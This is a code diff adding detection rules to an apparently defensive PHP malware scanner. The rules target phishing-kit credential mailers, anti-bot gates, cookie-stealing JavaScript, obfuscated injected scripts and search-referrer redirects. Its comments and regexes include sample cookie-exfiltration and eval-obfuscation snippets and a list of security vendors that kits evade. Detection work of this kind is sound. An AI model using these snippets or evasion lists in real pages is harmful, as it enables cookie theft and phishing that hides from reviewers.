@@ -1,5 +1,7 @@
 """Rules about phishing kits and SEO spam: crawler cloaking, remote content served to crawlers,
-visitor data relayed to a controller.
+visitor data relayed to a controller, form fields mailed to a fixed address, anti-bot gates,
+JavaScript written into the page to steal cookies or run hidden code, search-referrer
+redirects.
 """
 
 from __future__ import annotations
@@ -12,14 +14,21 @@ from spamtrace.scanner.context import (
     NOT_CALL_BEFORE,
     PLACEHOLDER,
     REMOTE_FETCH,
+    VAR,
     WEB_SCHEMES,
     Ctx,
     Hit,
     calls_to,
+    excerpt,
     feature,
+    first_arg,
     has_any,
     has_word,
+    recipient_literals,
+    string_at,
     string_text,
+    top_args,
+    var_assigns,
 )
 from spamtrace.scanner.rules import Rule
 
@@ -127,4 +136,240 @@ def _crawler_remote(ctx: Ctx, rule: Rule) -> Hit | None:
             if url.startswith(WEB_SCHEMES[:2]) and _SERVE.search(window):
                 at = start + f.start()
                 return Hit(ctx.line_of_code(at), ctx.excerpt_code(at, at + 80))
+    return None
+
+
+# ------------------------------------------------------------- phishing handlers, anti-bot gates
+# the request field names of credentials and card data (a form's password, card number, CVV)
+_CREDENTIAL_KEY = re.compile(
+    rb"pass|pwd|psw|passwd|cvv|cvc|ccnum|cc_?num|cc_?no|card_?num|cardnumber|card_?no|"
+    rb"\bssn\b|\bpin\b|\botp\b|exp_?date|exp_?month|exp_?year|sortcode|routing"
+)
+# a request element glued into text: . $_POST['k'] / $_POST['k'] . (code), or written inside
+# a double-quoted literal: "$_POST[k]", "{$_POST['k']}"
+_REQ_ELEMENT_CODE = re.compile(
+    rb"(\.\s*)?\$_(?:post|get|request)\s*\[\s*\x01(\d+)\x01\s*\](\s*\.)?"
+)
+_REQ_ELEMENT_TEXT = re.compile(rb"\$_(?:post|get|request)\s*\[\s*['\"]?([\w-]{1,40})")
+_DROP_SINKS = (b"mail", b"file_get_contents", b"curl_init", b"fwrite", b"file_put_contents")
+
+
+def _request_keys(ctx: Ctx, text: bytes) -> set[bytes]:
+    """The keys of request fields glued into ``text`` (code: by ".", or written inside one
+    of its literals: "Pass: {$_POST['pass']}")."""
+    keys: set[bytes] = set()
+    for m in itertools.islice(_REQ_ELEMENT_CODE.finditer(text), 100):
+        if m.group(1) or m.group(3):
+            keys.add(ctx.lx.value(int(m.group(2))).lower().strip())
+    for p in itertools.islice(PLACEHOLDER.finditer(text), 100):
+        lit = ctx.lx.value(int(p.group(1)))
+        if lit.find(b"$_") >= 0:
+            keys.update(t.group(1).lower() for t in _REQ_ELEMENT_TEXT.finditer(lit.lower()))
+    return keys
+
+
+# ``$v = ...;`` or ``$v .= ...;``: what a variable is given
+_GIVEN = re.compile(rb"\s*\.?=(?![=>])([^;]{0,400})")
+
+
+def _sent_text(ctx: Ctx, expr: bytes, depth: int = 2) -> bytes:
+    """``expr`` and what the variables in it were given (glued on with .= too), two levels
+    down: the text a call sends."""
+    out = [expr]
+    if depth:
+        for name in {v.group(1) for v in itertools.islice(VAR.finditer(expr), 8)}:
+            for _, m in var_assigns(ctx.code, name, _GIVEN, 30):
+                out.append(_sent_text(ctx, m.group(1), depth - 1))
+    return b" ".join(out)
+
+
+def _drops(ctx: Ctx) -> list[tuple[int, bytes]]:
+    """Calls that send text to a fixed place, with the text they send: mail() to a literal
+    address (or a variable set to one), a fetch of a Telegram bot's address."""
+    out: list[tuple[int, bytes]] = []
+    for start, args in calls_to(ctx, (b"mail",), 20):
+        parts = top_args(args)
+        if len(parts) >= 3 and any(b"@" in val for val in recipient_literals(ctx, args)):
+            out.append((start, parts[2]))
+    if string_text(ctx).find(b"api.telegram.org/bot") >= 0:
+        for start, args in calls_to(ctx, (b"file_get_contents", b"curl_init", b"fopen"), 20):
+            out.append((start, first_arg(args)))
+    return out
+
+
+@feature("credentials_dropped")
+def _credentials_dropped(ctx: Ctx, rule: Rule) -> Hit | None:
+    """A phishing kit's handler: the visitor's form fields, a password or card field among
+    them, glued into a text that is mailed to a hard-coded address or sent to a Telegram bot.
+    A site's own forms check a password (password_verify, wp_signon) or mail it to the
+    visitor's own address, never to a fixed one."""
+    if not has_any(ctx, _DROP_SINKS):
+        return None
+    for start, sent in _drops(ctx):
+        keys = _request_keys(ctx, _sent_text(ctx, sent))
+        if len(keys) >= 2 and any(_CREDENTIAL_KEY.search(k) for k in keys):
+            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
+    return None
+
+
+# hostnames and names of anti-phishing, security and crawler companies that kits refuse
+_SECURITY_NAMES = re.compile(
+    rb"phishtank|cyveillance|netcraft|phishlabs|markmonitor|trendmicro|websense|"
+    rb"bitdefender|kaspersky|forcepoint|zscaler|brandprotect|opendns|spamhaus|"
+    rb"surbl|avast|sucuri|ahrefs|semrush|virustotal|urlscan|paloalto|fortinet"
+)
+# an address pattern or prefix of an IP blocklist: "^66.102.*.*", "64.233.160.*", "66.249."
+# (not a version number: "5.2.1")
+_IP_PREFIX = re.compile(rb"^(?:\^\d{1,3}\.\d{1,3}|\d{1,3}\.\d{1,3}\.(?:\d{1,3}\.)?(?:\*|$))")
+_VISITOR = (b"remote_addr", b"http_user_agent", b"http_x_forwarded_for", b"http_client_ip")
+_GATE_ACTION = re.compile(rb"404 not found|403 forbidden|location:")
+
+
+@feature("antibot_gate")
+def _antibot_gate(ctx: Ctx, rule: Rule) -> Hit | None:
+    """A phishing kit's anti-bot gate: the visitor's address, host name or user agent
+    compared with a list of security companies (PhishTank, Netcraft, Kaspersky...) or of
+    search-engine and scanner IP prefixes, and a fake "404 Not Found", a redirect or an
+    exit for them: the page hides from the people who would report it."""
+    text = string_text(ctx)
+    if not any(text.find(v) >= 0 for v in _VISITOR) and not has_word(ctx, b"gethostbyaddr"):
+        return None
+    action = _GATE_ACTION.search(text)
+    if action is None and not (has_word(ctx, b"die") or has_word(ctx, b"exit")):
+        return None
+    vendors: set[bytes] = set()
+    prefixes = 0
+    value = ctx.lx.value
+    for idx in range(min(len(ctx.lx.raw_strings), 5000)):
+        lit = value(idx).lower().strip()
+        if len(lit) > 200:
+            continue
+        m = _SECURITY_NAMES.search(lit)
+        if m is not None:
+            vendors.add(m.group(0))
+        elif _IP_PREFIX.match(lit):
+            prefixes += 1
+    if len(vendors) < 2 and prefixes < 5:
+        return None
+    at = max(0, ctx.first(b"remote_addr"), ctx.first(b"gethostbyaddr"))
+    what = b", ".join(sorted(vendors)[:4]) or b"%d IP prefixes" % prefixes
+    return Hit(ctx.line_of_code(at), excerpt(b"refuses " + what))
+
+
+# -------------------------------------------------------------- JavaScript written by PHP
+def _in_page_text(ctx: Ctx, rx: re.Pattern[bytes]) -> Hit | None:
+    """A match of ``rx`` in the text the file outputs or holds (literals, inline HTML)."""
+    m = rx.search(string_text(ctx))
+    if m is None:
+        return None
+    return Hit(ctx.line_of_string(max(0, string_at(ctx, m.start()))), excerpt(m.group(0)))
+
+
+# the cookies glued into an address: new Image().src = 'http://x/?c=' + escape(document.cookie)
+_COOKIE_EXFIL = re.compile(
+    rb"(?:https?:)?//[^\x00'\"\s]{3,200}['\"]\s*\+\s*(?:(?:escape|encodeuricomponent|btoa)\s*\(\s*)?"
+    rb"document\.cookie"
+)
+
+
+@feature("js_cookie_exfil")
+def _js_cookie_exfil(ctx: Ctx, rule: Rule) -> Hit | None:
+    """JavaScript in the page (a PHP string or the file's HTML) that glues the visitor's
+    cookies into a web address, which the browser then loads: session cookies sent to a
+    third party. (Scripts that read or set their own cookie do not build an address.)"""
+    if ctx.data.find(b"document.cookie") < 0:
+        return None
+    return _in_page_text(ctx, _COOKIE_EXFIL)
+
+
+# obfuscated JavaScript run in the page: eval(String.fromCharCode(...)), document.write(
+# unescape('%3C...')), eval(atob(...)), eval(unescape(...))
+_JS_OBFUSCATED = re.compile(
+    rb"<script[^>]*>[^\x00]{0,400}?(?:eval\s*\(\s*(?:string\.fromcharcode|unescape|atob|"
+    rb"decodeuricomponent)\s*\(|document\.write\s*\(\s*(?:unescape|atob|string\.fromcharcode)"
+    rb"\s*\()"
+)
+_JS_WORDS = (b"fromCharCode", b"unescape(", b"atob(", b"decodeURIComponent(")
+
+
+@feature("js_obfuscated_inject")
+def _js_obfuscated_inject(ctx: Ctx, rule: Rule) -> Hit | None:
+    """A <script> written by PHP (a string or the file's HTML) that decodes and runs hidden
+    JavaScript (eval(String.fromCharCode(...)), document.write(unescape('%3C...'))): the
+    injected redirects and skimmers of hacked sites. Libraries ship such code as .js files,
+    not inside PHP."""
+    data = ctx.data
+    if not any(data.find(w) >= 0 for w in _JS_WORDS) or data.find(b"<script") < 0:
+        return None
+    return _in_page_text(ctx, _JS_OBFUSCATED)
+
+
+# --------------------------------------------------------------------- search-referer redirect
+_SEARCH_ENGINES = re.compile(rb"google|bing|yahoo|yandex|baidu|aol|ask\.com|duckduckgo")
+_REDIRECT = re.compile(
+    rb"header\s*\(\s*\x01(\d+)\x01|(?:window|document|top)\.location(?:\.href)?\s*=\s*['\"]?https?:"
+)
+
+
+def _block_after(code: bytes, pos: int) -> bytes:
+    """The statement or the {...} block that the condition holding ``pos`` guards (up to
+    2,000 bytes): the code run only when the test is true."""
+    depth = 0
+    i = pos
+    end = min(len(code), pos + 400)
+    while i < end:  # the end of the condition: its parentheses closed
+        ch = code[i]
+        if ch == 40:
+            depth += 1
+        elif ch == 41:
+            depth -= 1
+            if depth < 0:
+                break
+        i += 1
+    rest = code[i + 1 : i + 2000]
+    body = rest.lstrip()
+    if not body.startswith(b"{"):
+        semi = body.find(b";")
+        return body[: semi if semi >= 0 else len(body)]
+    depth = 0
+    for j, ch in enumerate(body):
+        if ch == 123:
+            depth += 1
+        elif ch == 125:
+            depth -= 1
+            if depth == 0:
+                return body[: j + 1]
+    return body
+
+
+@feature("search_referer_redirect")
+def _search_referer_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
+    """The referrer tested for a search engine (the visitor came from Google, Bing...) and
+    such visitors sent elsewhere by a redirect to a literal web address: SEO spam that
+    ranks the hacked site and sells its search traffic (the site's own visitors, who come
+    without such a referrer, see nothing)."""
+    text = string_text(ctx)
+    if text.find(b"http_referer") < 0:
+        return None
+    code = ctx.code
+    value = ctx.lx.value
+    for start, args in calls_to(ctx, CRAWLER_TESTS, 100):
+        lits = [value(int(q.group(1))).lower() for q in itertools.islice(
+            PLACEHOLDER.finditer(args), 4)]
+        if not any(_SEARCH_ENGINES.search(v) for v in lits):
+            continue
+        head = code[max(0, start - 300) : start + 200]
+        if head.find(b"referer") < 0 and not any(
+            value(int(q.group(1))).lower().find(b"http_referer") >= 0
+            for q in itertools.islice(PLACEHOLDER.finditer(head), 12)
+        ):
+            continue
+        window = _block_after(code, start)
+        for r in _REDIRECT.finditer(window):
+            if r.group(1) is not None:
+                target = value(int(r.group(1))).lower().lstrip()
+                if not target.startswith(b"location:") or target[9:].lstrip()[:4] != b"http":
+                    continue
+            at = start + r.start()
+            return Hit(ctx.line_of_code(at), ctx.excerpt_code(start, at + 60))
     return None
